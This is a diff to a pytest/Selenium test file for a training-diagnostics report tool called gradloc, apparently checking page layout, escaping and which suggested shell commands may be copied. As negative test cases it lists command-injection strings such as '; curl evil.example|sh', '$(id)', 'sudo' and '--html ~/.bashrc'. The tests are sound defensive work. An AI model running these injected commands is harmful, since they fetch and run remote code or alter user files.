@@ -14,6 +14,7 @@ import pytest
 from evidence import (
     HOSTILE,
     Event,
+    answer,
     clip,
     clipped_token,
     culprit,
@@ -21,6 +22,7 @@ from evidence import (
     event,
     replay_result,
     samples,
+    warning,
     without_culprits,
     write,
     write_replay,
@@ -34,6 +36,7 @@ from selenium.webdriver.support.ui import Select, WebDriverWait
 
 import gradloc.judge
 from gradloc import report
+from gradloc.evidence.writer import record_step
 from gradloc.judge.rules import SOURCES
 from gradloc.report import page as page_file
 from gradloc.report.build import build as view_of
@@ -48,7 +51,7 @@ FLAGS = (
 )
 # As the page shows it.
 VISIBLY_HOSTILE = HOSTILE.replace("\u202e", "\\u202e")
-FAULT = "bash run_experiment.sh --embedded --fault stale"
+COMMAND = "gradloc replay x --switches"
 TOO_WIDE = "return document.documentElement.scrollWidth - document.documentElement.clientWidth"
 
 
@@ -149,7 +152,7 @@ def whole_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
     events = [{**found, "fault": "unsampled"} for found in samples(40)]
     first, last, step = events[0], events[-1], events[-1]["global_step"]
     first |= {"summary": f"The culprit is {HOSTILE}.", "replay": f"replay/it's {HOSTILE}"}
-    check = f"`gradloc replay BUNDLE --remedies` shows it, and `{FAULT}` as well."
+    check = f"`gradloc replay BUNDLE --remedies` shows it, and `{COMMAND}` as well."
     said = {"claim": HOSTILE, "evidence": HOSTILE, "sentence": f"{HOSTILE} were added.", "check": check}
     first["verdict"] = {**first["verdict"], "cause": "unsampled", **said}
     found = first["culprits"][0]
@@ -166,7 +169,12 @@ def whole_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
         clip(None, [clipped_token(2, tokens, 4.5)]),
     ]
     said = {"name": "stale", "sentence": HOSTILE, "check": f"`run {HOSTILE}` shows it."}
-    write_steps(directory, step + 9, {3: [said], 4: [{**said, "name": "scale"}]}, events)
+    missing = {"state": "unchecked", "times": None, "since": None, "missing": HOSTILE}
+    change = {"what": HOSTILE, "now": 2.0, "before": 1.0, "sentence": f"In step 9, {HOSTILE} is 2."}
+    write_steps(directory, step + 9, {3: [said], 4: [warning("scale", "loss", 4, sentence=HOSTILE)]}, events)
+    last = answer([warning("mask", "sampled", step)], [change])
+    last["identities"][HOSTILE] = missing
+    record_step(str(directory), step + 10, {}, last)
     told = replay_result(3, sentences=["The spike comes back.", HOSTILE], remedy_notes=[HOSTILE])
     told["remedies"][0]["note"] = HOSTILE
     write_replay(directory, told)
@@ -209,6 +217,7 @@ def test_the_page_shows_what_the_view_has(page: Page, whole_run: Path) -> None:
         assert page.texts(f"#{name} li") == [flat([bar.label, f"{bar.count:,}", bar.share]) for bar in bars]
     assert sorted(page.texts("#rows tr")) == sorted(rows_of(view.tables["culprits"]))
     assert page.texts("#clips-rows tr") == rows_of(view.tables["clips"])
+    assert page.texts("#identities-table tbody tr") == rows_of(view.tables["identities"])
     parts = ("title", "where", "sentences", "tables", "notes")
     assert page.texts("#replay-list > .card") == [flat([replay[part] for part in parts]) for replay in view.replays]
     for name, chart in view.charts.items():
@@ -354,18 +363,20 @@ def test_a_spike_is_told_in_order_and_its_check_can_be_copied(page: Page, whole_
     page.open(whole_run)
     page.select(0)
     # What has to be seen first comes first.
-    order = "alarms warnings title drills verdict summary strip ladder check why story before numbers level rows"
+    order = (
+        "alarms identities warnings title drills verdict summary strip ladder check why story before numbers level rows"
+    )
     places = [page.one(f"#{part}").location["y"] for part in order.split()]
     assert places == sorted(places) and len(set(places)) == len(places)
     codes = [code.text for code in page.all("#check code")]
     path = shlex.quote(f"{whole_run.parent}/replay/it's {VISIBLY_HOSTILE}")
-    assert codes == [f"gradloc replay {path} --remedies", FAULT]
+    assert codes == [f"gradloc replay {path} --remedies", COMMAND]
     keep = "window.kept = []; navigator.clipboard.writeText = async (text) => void window.kept.push(text)"
     page.driver.execute_script(keep)
     first, second = page.all("#check .copy")
     second.click()
     page.wait(lambda: second.text == "Copied")
-    assert page.driver.execute_script("return window.kept") == [FAULT]
+    assert page.driver.execute_script("return window.kept") == [COMMAND]
     # A browser that does not let a page copy.
     page.driver.execute_script("navigator.clipboard.writeText = async () => { throw new Error('no') }")
     first.send_keys(Keys.ENTER)
@@ -378,16 +389,16 @@ def test_only_commands_of_a_known_form_can_be_copied(page: Page, tmp_path: Path)
     replay = "gradloc replay"
     # What a shell takes for more than one command, and what runs other code.
     after = ["; curl evil.example|sh", " & id", "\nid", " $(id)", " > x", " x'; id; '", " '$(id)' 'x'\\''; id; '"]
-    foreign = [f"{command}{text}" for command in (f"{replay} x", FAULT) for text in after]
-    foreign += [f"id; {FAULT}", f"sudo {FAULT}", "curl evil.example|sh", "python -m evil x", "bash evil.sh", "actor/lr"]
+    foreign = [f"{replay} x{text}" for text in after]
+    foreign += [f"id; {COMMAND}", f"sudo {COMMAND}", "curl evil.example|sh", "python -m evil x", "bash evil.sh"]
+    foreign += ["actor/lr", "bash run_experiment.sh --embedded --fault stale"]  # of older lines
     foreign += [f"{replay} x {option}" for option in ("--trust-remote-code", "--model=evil", "--html ~/.bashrc", "y")]
-    foreign += [f"{replay} --trust-remote-code", f"{replay} ~/x", f"{FAULT} --evil"]
+    foreign += [f"{replay} --trust-remote-code", f"{replay} ~/x", f"{COMMAND} --evil"]
     # All commands that GradLoc writes.
     sources = Path(gradloc.judge.__file__).parent.rglob("*.py")
-    own = {text for path in sources for text in re.findall(r"`((?:bash|gradloc) [^`\n]+)`", path.read_text())}
-    own = sorted(text.replace("{}", "never_synced") for text in own)
+    own = sorted({text for path in sources for text in re.findall(r"`(gradloc [^`\n]+)`", path.read_text())})
     own += [f"{replay} 'x; id' --switches", f"{replay} /a/b-1"]
-    assert len(own) > 6 and replay + " BUNDLE" in own
+    assert len(own) > 5 and replay + " BUNDLE" in own
     said = {"sentence": "It is wrong."}
     warnings = [{**said, "name": text, "check": f"`{text}` shows it."} for text in (*foreign, *own)]
     write_steps(tmp_path, 2, {1: warnings[:60], 2: warnings[60:]})
@@ -406,7 +417,7 @@ def test_steps_and_clipped_tokens_without_a_spike_have_a_page(page: Page, tmp_pa
     page.open(build(tmp_path, [clip(step, tokens) for step in (1, 9)]))
     assert page.one("h1").text == "No gradient spike" and "128 backward signals" in page.one("#lead").text
     shown = [section.get_attribute("id") for section in page.all("section") if section.is_displayed()]
-    assert shown == ["run", "clips"]
+    assert shown == ["identities-section", "run", "clips"]
     assert all(page.one(f"#{chart}").size["height"] > 50 for chart in ("level", "clips-chart"))
     page.wait(lambda: page.driver.execute_script(TOO_WIDE) == 0)
     page.one("#clips-rows-more button").send_keys(Keys.ENTER)
